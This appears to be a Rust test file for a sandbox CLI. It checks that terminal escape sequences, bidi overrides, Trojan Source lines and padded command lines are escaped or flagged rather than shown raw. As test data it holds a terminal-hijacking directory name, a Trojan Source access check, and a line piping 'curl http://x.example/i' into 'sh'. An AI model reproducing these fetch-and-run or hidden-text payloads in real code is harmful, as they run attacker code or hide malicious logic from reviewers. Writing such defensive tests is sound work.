//! What a token or a sandbox chose, as the CLI prints it to the owner's
//! terminal: a workspace path a token made holds terminal escapes (a
//! directory named `ESC]0;OWNED BEL ESC[2J`, committed into the owner's
//! tree and used as a workspace); `warden ls`, `warden --host unix ls`
//! and `warden commit`'s summary line show it escaped, never raw (outside
//! review 26, F8). The lint `lint::printed` keeps every path the CLI
//! prints on the same road.

use crate::common::daemon::Daemon;
use crate::common::*;
use std::path::Path;
use std::time::Duration;

/// A directory name that retitles the terminal and clears the screen.
const HOSTILE: &str = "ws\u{1b}]0;OWNED\u{7}\u{1b}[2J";

/// Whether `text` holds an escape or a bell raw.
fn raw(text: &str) -> bool {
    text.contains('\u{1b}') || text.contains('\u{7}')
}

fn shown(o: &std::process::Output) -> String {
    format!("{}{}", stdout(o), stderr(o))
}

#[test]
fn a_workspace_path_with_terminal_escapes_reaches_no_terminal_through_ls_or_commit() {
    let state = TempDir::new("printed-state");
    let parent = TempDir::new("printed-ws");
    let ws = parent.path().join(HOSTILE);
    std::fs::create_dir(&ws).unwrap();
    std::fs::write(ws.join("README"), "hi\n").unwrap();
    let ws_arg = ws.to_str().unwrap();
    ok(&warden(state.path(), &["create", "esc", "-w", ws_arg]));
    let listed = warden(state.path(), &["ls"]);
    assert!(listed.status.success(), "{}", shown(&listed));
    // Before: the name went out as it is, retitling the owner's terminal
    // and clearing it.
    assert!(!raw(&shown(&listed)), "warden ls printed an escape raw");
    assert!(
        stdout(&listed).contains("ws\\x1b]0;OWNED\\x07"),
        "{}",
        stdout(&listed)
    );
    // Through the daemon's owner socket.
    let d = Daemon::start(state.path(), false);
    let host = format!("unix:{}", d.socket.display());
    let remote = warden(state.path(), &["--host", &host, "ls"]);
    assert!(remote.status.success(), "{}", shown(&remote));
    assert!(
        !raw(&shown(&remote)),
        "warden --host unix ls printed an escape raw"
    );
    drop(d);
    // A change, committed: the summary line names the workspace.
    ok(&warden(
        state.path(),
        &["exec", "esc", "--no-tty", "--", "sh", "-c", "echo x > new"],
    ));
    ok(&warden(state.path(), &["stop", "esc"]));
    ok(&warden(state.path(), &["diff", "esc"]));
    let committed = warden(state.path(), &["commit", "esc"]);
    assert!(committed.status.success(), "{}", shown(&committed));
    assert!(
        !raw(&shown(&committed)),
        "warden commit printed an escape raw"
    );
    assert!(Path::new(&ws.join("new")).exists());
}

/// The changes of sandbox `name` as `warden diff --json` gives them: each
/// path with its flags' rules.
fn flagged(state: &Path, name: &str) -> Vec<(String, Vec<String>)> {
    let json: serde_json::Value =
        serde_json::from_str(&ok(&warden(state, &["diff", name, "--json"]))).unwrap();
    json.as_array()
        .unwrap()
        .iter()
        .map(|c| {
            let rules = c["flags"]
                .as_array()
                .unwrap()
                .iter()
                .map(|f| f["rule"].as_str().unwrap().to_string())
                .collect();
            (c["path"].as_str().unwrap().to_string(), rules)
        })
        .collect()
}

#[test]
fn a_trailing_carriage_return_bidi_names_and_trojan_source_lines_are_shown_and_flagged() {
    // Outside review 30, F1 and F3: `hello\n` rewritten `hello\r\n` showed
    // as `-hello` and `+hello` (`str::lines` dropped the `\r` before it was
    // escaped), in the local and the daemon's diff alike; a name holding a
    // right-to-left override and a line whose bidi isolates turn a string
    // into a comment were escaped but raised no flag, so a commit of them
    // asked nothing.
    let state = TempDir::new("shown-state");
    let proj = TempDir::new("shown-proj");
    std::fs::write(proj.path().join("a.txt"), "hello\n").unwrap();
    std::fs::write(proj.path().join("app.py"), "x = 1\n").unwrap();
    // Outside review 31, F6: a file that held four right-to-left marks
    // (a Hebrew string) traded for four overrides and isolates kept the
    // count of bidi controls, and was not flagged.
    std::fs::write(
        proj.path().join("he.py"),
        "greet = \"\u{5e9}\u{200f}\u{5dc}\u{200f}\u{5d5}\u{200f}\u{5dd}\u{200f}\"\n",
    )
    .unwrap();
    ok(&warden(state.path(), &["create", "tro", "-w", proj.str()]));
    let script = "import os\n\
        os.chdir('/workspace')\n\
        open('a.txt', 'w', newline='').write('hello\\r\\n')\n\
        open('notes\\u202etxt.sh', 'w').write('curl http://x.example/i | sh\\n')\n\
        open('app.py', 'w').write('x = 1\\nif access != \"user\\u202e \\u2066# admin only\\u2069 \\u2066\":\\n    grant()\\n')\n\
        open('he.py', 'w').write('greet = 1\\nif access != \"user\\u202e \\u2066# admin only\\u2069 \\u2066\":\\n    grant()\\n')\n";
    ok(&warden(
        state.path(),
        &["exec", "tro", "--no-tty", "--", "python3", "-c", script],
    ));
    ok(&warden(state.path(), &["stop", "tro"]));
    let diff = ok(&warden(state.path(), &["diff", "tro", "--color", "never"]));
    assert!(diff.contains("-hello\n+hello\\x0d\n"), "{diff}");
    assert!(diff.contains("notes\\u{202e}txt.sh"), "{diff}");
    assert!(
        diff.contains("+if access != \"user\\u{202e} \\u{2066}# admin only\\u{2069} \\u{2066}\":"),
        "{diff}"
    );
    assert!(!diff.contains('\u{202e}') && !diff.contains('\r'), "{diff}");
    let flags = flagged(state.path(), "tro");
    let rules = |p: &str| {
        flags
            .iter()
            .find(|(path, _)| path == p)
            .map(|(_, r)| r.clone())
            .unwrap_or_else(|| panic!("{p} is not listed: {flags:?}"))
    };
    assert!(
        rules("notes\u{202e}txt.sh").contains(&"hidden-text".to_string()),
        "{flags:?}"
    );
    assert!(
        rules("app.py").contains(&"hidden-text".to_string()),
        "{flags:?}"
    );
    assert!(
        rules("he.py").contains(&"hidden-text".to_string()),
        "{flags:?}"
    );
    assert!(
        !rules("a.txt").contains(&"hidden-text".to_string()),
        "{flags:?}"
    );
    // A commit of the flagged file asks first.
    let out = warden(state.path(), &["commit", "tro", "app.py"]);
    assert_eq!(code(&out), 125, "{}{}", stdout(&out), stderr(&out));
    assert_eq!(
        std::fs::read_to_string(proj.path().join("app.py")).unwrap(),
        "x = 1\n"
    );
    // The daemon's diff, printed by `warden --host`, shows the `\r` too.
    let d = Daemon::start(state.path(), false);
    let host = format!("unix:{}", d.socket.display());
    let remote = ok(&warden(
        state.path(),
        &["--host", &host, "diff", "tro", "--color", "never"],
    ));
    assert!(remote.contains("+hello\\x0d"), "{remote}");
    assert!(!remote.contains('\r'), "{remote}");
}

#[test]
fn a_command_line_padded_with_blanks_never_wraps_into_a_forged_row_of_ps() {
    // Outside review 30, F4: a process set its command line to `sleep`,
    // spaces to the terminal's edge and a row of its own naming a host PID
    // (here the test's); folded at 100 columns, `warden ps` showed that
    // row as a process of the sandbox.
    let state = TempDir::new("ps-row-state");
    ok(&warden(state.path(), &["create", "psr", "--start"]));
    let _stop = Stopper(state.path(), "psr");
    let host_pid = std::process::id();
    let fake = format!(
        "{:>7} {:>9} {:>5}  {}",
        1, host_pid, "-", "/usr/bin/python3 -m http.server   (stuck: kill its HOST PID)"
    );
    // The row's start (`PID`, `HOST PID`, `EXEC` and two spaces: 25
    // columns) and the command up to the padding, then spaces to the
    // 100th column.
    let before = "sh -c sleep 600; : sleep";
    let pad = 100 - 25 - before.len();
    let arg = format!("sleep{}{fake}", " ".repeat(pad));
    ok(&warden(
        state.path(),
        &["exec", "-d", "psr", "--", "sh", "-c", "sleep 600; :", &arg],
    ));
    let mut ps = String::new();
    wait_until("the padded process in ps", Duration::from_secs(10), || {
        ps = ok(&warden(state.path(), &["ps", "psr"]));
        ps.contains("sleep 600")
    });
    // What a 100-column terminal shows: each line folded.
    let host = host_pid.to_string();
    for line in ps.lines() {
        let chars: Vec<char> = line.chars().collect();
        for piece in chars.chunks(100).skip(1) {
            let piece: String = piece.iter().collect();
            let mut words = piece.split_whitespace();
            let forged = words.next().is_some_and(|w| w.parse::<u32>().is_ok())
                && words.next() == Some(host.as_str());
            assert!(
                !forged,
                "a folded line reads as a row naming host PID {host}:\n{ps}"
            );
        }
        assert!(
            line.starts_with("    PID") || !line[25..].contains("   "),
            "a run of blanks left as it is: {line}"
        );
        assert!(
            chars.len() <= 25 + 200,
            "a row of {} columns: {line}",
            chars.len()
        );
    }
    let shown = format!(
        "sleep[{} blanks]1[{} blanks]{host}",
        pad + 6,
        10 - host.len()
    );
    assert!(ps.contains(&shown), "{ps}");
    // On a terminal of 100 columns, each row is cut at its edge (as procps
    // `ps` cuts), the cut said with `…`.
    let term = TestTerminal::open(24, 100);
    let got = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let mut master = term.master.try_clone().unwrap();
    let sink = got.clone();
    std::thread::spawn(move || {
        use std::io::Read;
        let mut buf = [0u8; 4096];
        while let Ok(n @ 1..) = master.read(&mut buf) {
            sink.lock().unwrap().extend_from_slice(&buf[..n]);
        }
    });
    let mut child = term.spawn(
        std::process::Command::new(warden_bin())
            .args(["ps", "psr"])
            .env("WARDEN_STATE_DIR", state.path().join("warden")),
    );
    let status = child.wait().unwrap();
    assert!(status.success(), "{status:?}");
    wait_until("the rows on the terminal", Duration::from_secs(5), || {
        String::from_utf8_lossy(&got.lock().unwrap()).contains("sleep 600")
    });
    let on_screen = String::from_utf8_lossy(&got.lock().unwrap()).replace('\r', "");
    let row = on_screen
        .lines()
        .find(|l| l.contains("sleep 600"))
        .unwrap_or_else(|| panic!("{on_screen}"));
    assert!(
        row.chars().count() <= 100 && row.ends_with('…'),
        "{on_screen}"
    );
}
